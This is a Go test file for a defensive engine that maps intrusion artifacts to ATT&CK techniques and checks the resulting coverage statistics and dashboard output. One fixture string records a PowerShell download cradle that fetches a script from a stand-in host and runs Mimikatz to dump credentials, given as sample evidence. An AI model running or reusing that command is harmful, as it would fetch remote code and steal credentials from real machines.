package attackmap

import (
	"context"
	"io"
	"log/slog"
	"testing"

	"github.com/spf13/afero"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"github.com/tidwall/gjson"
	"go.opentelemetry.io/otel/metric/noop"
	nooptrace "go.opentelemetry.io/otel/trace/noop"

	"github.com/caseforge/attackmap/casestore"
	"github.com/caseforge/attackmap/catalog"
	"github.com/caseforge/attackmap/mapper"
	"github.com/caseforge/attackmap/render"
)

// engineCatalog is a ten-technique snapshot covering six tactics. Seven of
// the ten are producible from engineObservations, so coverage lands at 70%.
func engineCatalog() *catalog.Catalog {
	return catalog.New("2026-03",
		catalog.Technique{ID: "T1003", Name: "OS Credential Dumping", Tactics: []string{"credential-access"}},
		catalog.Technique{ID: "T1003.001", Name: "LSASS Memory", Tactics: []string{"credential-access"}, IsSubtechnique: true, ParentID: "T1003"},
		catalog.Technique{ID: "T1021", Name: "Remote Services", Tactics: []string{"lateral-movement"}},
		catalog.Technique{ID: "T1059", Name: "Command and Scripting Interpreter", Tactics: []string{"execution"}},
		catalog.Technique{ID: "T1059.001", Name: "PowerShell", Tactics: []string{"execution"}, IsSubtechnique: true, ParentID: "T1059"},
		catalog.Technique{ID: "T1105", Name: "Ingress Tool Transfer", Tactics: []string{"command-and-control"}},
		catalog.Technique{ID: "T1204.002", Name: "Malicious File", Tactics: []string{"execution"}, IsSubtechnique: true, ParentID: "T1204"},
		catalog.Technique{ID: "T1486", Name: "Data Encrypted for Impact", Tactics: []string{"impact"}},
		catalog.Technique{ID: "T1566", Name: "Phishing", Tactics: []string{"initial-access"}},
		catalog.Technique{ID: "T1570", Name: "Lateral Tool Transfer", Tactics: []string{"lateral-movement"}},
	)
}

// engineObservations is a three-artifact batch from a lateral movement plus
// credential theft intrusion: an LSASS dump, a download-cradle PowerShell
// history, and a PsExec prefetch entry.
func engineObservations() []mapper.Observation {
	return []mapper.Observation{
		{ArtifactType: mapper.ArtifactLSASSDump},
		{
			ArtifactType: mapper.ArtifactPowerShellHistory,
			Context:      "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a.ps1'); Invoke-Mimikatz -DumpCreds",
		},
		{
			ArtifactType: mapper.ArtifactPrefetch,
			Context:      "PSEXEC.EXE-1A2B3C4D.pf last run 2024-11-03",
			Data:         map[string]string{"filename": "psexec.exe"},
		},
	}
}

func newTestEngine(t *testing.T) (*Engine, afero.Fs) {
	t.Helper()

	fs := afero.NewMemMapFs()
	engine, err := New(
		WithCatalog(catalog.NewFixed(engineCatalog())),
		WithCaseStore(casestore.NewMemory()),
		WithFilesystem(fs),
		WithOutputDir("/out"),
		WithLogger(slog.New(slog.NewTextHandler(io.Discard, nil))),
	)
	require.NoError(t, err)
	t.Cleanup(func() { engine.Close() })
	return engine, fs
}

func TestEngineMapArtifacts(t *testing.T) {
	engine, _ := newTestEngine(t)
	ctx := context.Background()

	matches, err := engine.MapArtifacts(ctx, "case-7", engineObservations())
	require.NoError(t, err)
	require.Len(t, matches, 9)

	// Per-observation blocks, each ordered by confidence then ID
	wantIDs := []string{
		"T1003.001", "T1003", // lsass_dump
		"T1059.001", "T1003", "T1003.001", "T1105", // powershell_history
		"T1570", "T1204.002", "T1059", // prefetch
	}
	for i, m := range matches {
		assert.Equal(t, wantIDs[i], m.TechniqueID, "match %d", i)
	}

	// Bonus algebra: base 0.9 + context 0.25 clamps at 1.0
	assert.Equal(t, 1.0, matches[2].Confidence)
	assert.Equal(t, "PowerShell", matches[2].Name)
	// base 0.45 + context 0.25 + data 0.30
	assert.InDelta(t, 1.0, matches[6].Confidence, 1e-9)
	assert.Equal(t, 0.95, matches[0].Confidence)

	// Stored matches match the returned slice
	stored, err := engine.Matches(ctx, "case-7")
	require.NoError(t, err)
	assert.Equal(t, matches, stored)
}

func TestEngineCoverageStatistics(t *testing.T) {
	engine, _ := newTestEngine(t)
	ctx := context.Background()

	_, err := engine.MapArtifacts(ctx, "case-7", engineObservations())
	require.NoError(t, err)

	report, err := engine.CoverageStatistics(ctx, "case-7")
	require.NoError(t, err)

	assert.Equal(t, 7, report.TechniquesDetected)
	assert.Equal(t, 10, report.TechniquesTotal)
	assert.InDelta(t, 70.0, report.CoveragePercentage, 1e-9)
	assert.Empty(t, report.UnresolvedIDs)

	// Kill chain order over the six tactics the snapshot carries
	var tactics []string
	for _, tc := range report.Tactics {
		tactics = append(tactics, tc.Tactic)
	}
	assert.Equal(t, []string{
		"initial-access",
		"execution",
		"credential-access",
		"lateral-movement",
		"command-and-control",
		"impact",
	}, tactics)

	byTactic := make(map[string][2]int)
	for _, tc := range report.Tactics {
		byTactic[tc.Tactic] = [2]int{tc.Detected, tc.Total}
	}
	assert.Equal(t, [2]int{3, 3}, byTactic["execution"])
	assert.Equal(t, [2]int{2, 2}, byTactic["credential-access"])
	assert.Equal(t, [2]int{1, 2}, byTactic["lateral-movement"])
	assert.Equal(t, [2]int{0, 1}, byTactic["impact"])
}

// TestEngineStatsRederive verifies statistics are recomputed from the store
// on every call rather than cached.
func TestEngineStatsRederive(t *testing.T) {
	engine, _ := newTestEngine(t)
	ctx := context.Background()

	_, err := engine.MapArtifacts(ctx, "case-7", engineObservations()[:1])
	require.NoError(t, err)

	report, err := engine.CoverageStatistics(ctx, "case-7")
	require.NoError(t, err)
	assert.Equal(t, 2, report.TechniquesDetected) // T1003, T1003.001

	_, err = engine.MapArtifacts(ctx, "case-7", engineObservations()[1:])
	require.NoError(t, err)

	report, err = engine.CoverageStatistics(ctx, "case-7")
	require.NoError(t, err)
	assert.Equal(t, 7, report.TechniquesDetected)
}

func TestEngineGenerateDashboards(t *testing.T) {
	engine, fs := newTestEngine(t)
	ctx := context.Background()

	_, err := engine.MapArtifacts(ctx, "case-7", engineObservations())
	require.NoError(t, err)

	paths, err := engine.GenerateDashboards(ctx, "case-7", []string{"splunk", "elastic", "navigator"})
	require.NoError(t, err)
	require.Len(t, paths, 3)

	assert.Equal(t, "/out/case-7_splunk.json", paths[render.FormatSplunk])
	assert.Equal(t, "/out/case-7_elastic.ndjson", paths[render.FormatElastic])
	assert.Equal(t, "/out/case-7.json", paths[render.FormatNavigator])

	for format, path := range paths {
		exists, err := afero.Exists(fs, path)
		require.NoError(t, err)
		assert.True(t, exists, "missing %s dashboard at %s", format, path)
	}

	// The layer carries one cell per distinct technique, every score > 0
	doc, err := afero.ReadFile(fs, paths[render.FormatNavigator])
	require.NoError(t, err)
	assert.Equal(t, int64(7), gjson.GetBytes(doc, "techniques.#").Int())
	assert.Empty(t, gjson.GetBytes(doc, `techniques.#(score==0)#`).Array())

	// Duplicates collapsed to the highest confidence
	assert.Equal(t, int64(95),
		gjson.GetBytes(doc, `techniques.#(techniqueID=="T1003.001").score`).Int())
	assert.Equal(t, int64(100),
		gjson.GetBytes(doc, `techniques.#(techniqueID=="T1059.001").score`).Int())
	assert.Equal(t, int64(30),
		gjson.GetBytes(doc, `techniques.#(techniqueID=="T1059").score`).Int())
}

func TestEngineGenerateDashboardsDefaultsToAllFormats(t *testing.T) {
	engine, _ := newTestEngine(t)
	ctx := context.Background()

	_, err := engine.MapArtifacts(ctx, "case-7", engineObservations())
	require.NoError(t, err)

	paths, err := engine.GenerateDashboards(ctx, "case-7", nil)
	require.NoError(t, err)
	assert.Len(t, paths, 3)
}

func TestEngineGenerateDashboardsUnsupportedFormat(t *testing.T) {
	engine, fs := newTestEngine(t)
	ctx := context.Background()

	_, err := engine.MapArtifacts(ctx, "case-7", engineObservations())
	require.NoError(t, err)

	_, err = engine.GenerateDashboards(ctx, "case-7", []string{"splunk", "foo"})
	require.Error(t, err)
	assert.ErrorIs(t, err, ErrUnsupportedFormat)

	// The message names the rejected format and the valid set
	assert.Contains(t, err.Error(), `"foo"`)
	assert.Contains(t, err.Error(), "splunk")
	assert.Contains(t, err.Error(), "elastic")
	assert.Contains(t, err.Error(), "navigator")

	var engineErr *Error
	require.ErrorAs(t, err, &engineErr)
	assert.Equal(t, KindValidation, engineErr.Kind)

	// Validation happens before any rendering: nothing was written
	exists, err := afero.DirExists(fs, "/out")
	require.NoError(t, err)
	assert.False(t, exists)
}

func TestEngineCaseIsolation(t *testing.T) {
	engine, _ := newTestEngine(t)
	ctx := context.Background()

	_, err := engine.MapArtifacts(ctx, "case-alpha", engineObservations()[:1])
	require.NoError(t, err)
	_, err = engine.MapArtifacts(ctx, "case-beta", engineObservations())
	require.NoError(t, err)

	cases, err := engine.Cases(ctx)
	require.NoError(t, err)
	assert.Equal(t, []string{"case-alpha", "case-beta"}, cases)

	alpha, err := engine.Matches(ctx, "case-alpha")
	require.NoError(t, err)
	assert.Len(t, alpha, 2)

	require.NoError(t, engine.ClearCase(ctx, "case-alpha"))

	alpha, err = engine.Matches(ctx, "case-alpha")
	require.NoError(t, err)
	assert.Empty(t, alpha)

	beta, err := engine.Matches(ctx, "case-beta")
	require.NoError(t, err)
	assert.Len(t, beta, 9)
}

func TestEngineValidatesCaseID(t *testing.T) {
	engine, _ := newTestEngine(t)
	ctx := context.Background()

	_, err := engine.MapArtifacts(ctx, "../escape", engineObservations())
	assert.ErrorIs(t, err, ErrInvalidCaseID)

	_, err = engine.CoverageStatistics(ctx, "")
	assert.ErrorIs(t, err, ErrInvalidCaseID)

	_, err = engine.GenerateDashboards(ctx, "a/b", nil)
	assert.ErrorIs(t, err, ErrInvalidCaseID)

	err = engine.ClearCase(ctx, ".hidden")
	assert.ErrorIs(t, err, ErrInvalidCaseID)
}

func TestEngineCustomMappings(t *testing.T) {
	engine, _ := newTestEngine(t)
	ctx := context.Background()

	err := engine.AddCustomMapping("edr telemetry", "T1055", 0.8)
	assert.ErrorIs(t, err, ErrInvalidMapping, "spaces are not a snake_case tag")

	require.NoError(t, engine.AddCustomMapping("edr_telemetry", "T9999", 0.9))

	listed := engine.CustomMappings()
	require.Len(t, listed, 1)
	assert.Equal(t, mapper.ArtifactType("edr_telemetry"), listed[0].ArtifactType)

	matches, err := engine.MapArtifacts(ctx, "case-7", []mapper.Observation{
		{ArtifactType: "edr_telemetry"},
	})
	require.NoError(t, err)
	require.Len(t, matches, 1)
	assert.Equal(t, "T9999", matches[0].TechniqueID)
	assert.Equal(t, 0.9, matches[0].Confidence)

	// The technique is outside the snapshot, so coverage reports it as
	// unresolved rather than detected.
	report, err := engine.CoverageStatistics(ctx, "case-7")
	require.NoError(t, err)
	assert.Equal(t, 0, report.TechniquesDetected)
	assert.Equal(t, []string{"T9999"}, report.UnresolvedIDs)
}

func TestEngineSummary(t *testing.T) {
	engine, _ := newTestEngine(t)
	ctx := context.Background()

	_, err := engine.MapArtifacts(ctx, "case-7", engineObservations())
	require.NoError(t, err)

	summary, err := engine.Summary(ctx, "case-7", 3)
	require.NoError(t, err)

	assert.Equal(t, "case-7", summary.CaseID)
	assert.Equal(t, 9, summary.MatchCount)
	assert.Equal(t, 7, summary.Report.TechniquesDetected)

	require.Len(t, summary.TopMatches, 3)
	assert.Equal(t, "T1059.001", summary.TopMatches[0].TechniqueID)
	assert.Equal(t, "T1570", summary.TopMatches[1].TechniqueID)
	assert.Equal(t, "T1003.001", summary.TopMatches[2].TechniqueID)
}

// TestEngineUnknownCase verifies unknown cases read as empty, never as
// errors.
func TestEngineUnknownCase(t *testing.T) {
	engine, _ := newTestEngine(t)
	ctx := context.Background()

	matches, err := engine.Matches(ctx, "case-unknown")
	require.NoError(t, err)
	assert.Empty(t, matches)

	report, err := engine.CoverageStatistics(ctx, "case-unknown")
	require.NoError(t, err)
	assert.Equal(t, 0, report.TechniquesDetected)
	assert.Equal(t, 10, report.TechniquesTotal)
	assert.Equal(t, 0.0, report.CoveragePercentage)

	require.NoError(t, engine.ClearCase(ctx, "case-unknown"))
}

// TestEngineWithObservability verifies tracer and meter wiring does not
// change results.
func TestEngineWithObservability(t *testing.T) {
	fs := afero.NewMemMapFs()
	engine, err := New(
		WithCatalog(catalog.NewFixed(engineCatalog())),
		WithFilesystem(fs),
		WithOutputDir("/out"),
		WithLogger(slog.New(slog.NewTextHandler(io.Discard, nil))),
		WithTracer(nooptrace.NewTracerProvider().Tracer("test")),
		WithMeter(noop.NewMeterProvider().Meter("test")),
	)
	require.NoError(t, err)
	defer engine.Close()

	ctx := context.Background()
	matches, err := engine.MapArtifacts(ctx, "case-7", engineObservations())
	require.NoError(t, err)
	assert.Len(t, matches, 9)

	paths, err := engine.GenerateDashboards(ctx, "case-7", []string{"navigator"})
	require.NoError(t, err)
	assert.Len(t, paths, 1)
}

// TestEngineClosedStore verifies storage failures surface as storage-kind
// errors.
func TestEngineClosedStore(t *testing.T) {
	store := casestore.NewMemory()
	engine, err := New(
		WithCatalog(catalog.NewFixed(engineCatalog())),
		WithCaseStore(store),
		WithFilesystem(afero.NewMemMapFs()),
		WithLogger(slog.New(slog.NewTextHandler(io.Discard, nil))),
	)
	require.NoError(t, err)
	defer engine.Close()

	require.NoError(t, store.Close())

	_, err = engine.MapArtifacts(context.Background(), "case-7", engineObservations())
	require.Error(t, err)
	assert.ErrorIs(t, err, casestore.ErrClosed)

	var engineErr *Error
	require.ErrorAs(t, err, &engineErr)
	assert.Equal(t, KindStorage, engineErr.Kind)
	assert.Equal(t, "case-7", engineErr.Context["case_id"])
}
